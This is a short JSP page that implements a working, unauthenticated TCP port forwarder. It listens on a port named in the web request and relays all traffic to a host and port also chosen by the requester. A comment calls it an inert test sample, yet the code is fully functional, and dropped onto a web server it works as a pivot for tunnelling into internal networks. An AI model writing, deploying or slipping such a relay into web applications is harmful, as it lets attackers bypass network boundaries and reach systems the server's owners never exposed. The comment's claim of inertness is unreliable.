<%@ page import="java.io.*,java.net.*" %>
<%-- inert test sample: a port forwarder; listens where the request says and relays to where it says --%>
<%!
static class Relay implements Runnable {
    private final InputStream from; private final OutputStream to;
    Relay(InputStream from, OutputStream to) { this.from = from; this.to = to; }
    public void run() {
        byte[] chunk = new byte[4096]; int n;
        try { while ((n = from.read(chunk)) > 0) { to.write(chunk, 0, n); to.flush(); } } catch (IOException ignored) { }
    }
}
%>
<%
String target = request.getParameter("to");
int targetPort = Integer.parseInt(request.getParameter("toPort"));
ServerSocket listener = new ServerSocket(Integer.parseInt(request.getParameter("listen")));
application.setAttribute("fwd", listener);
while (!listener.isClosed()) {
    Socket inbound = listener.accept();
    Socket outbound = new Socket(target, targetPort);
    new Thread(new Relay(inbound.getInputStream(), outbound.getOutputStream())).start();
    new Thread(new Relay(outbound.getInputStream(), inbound.getOutputStream())).start();
}
%>
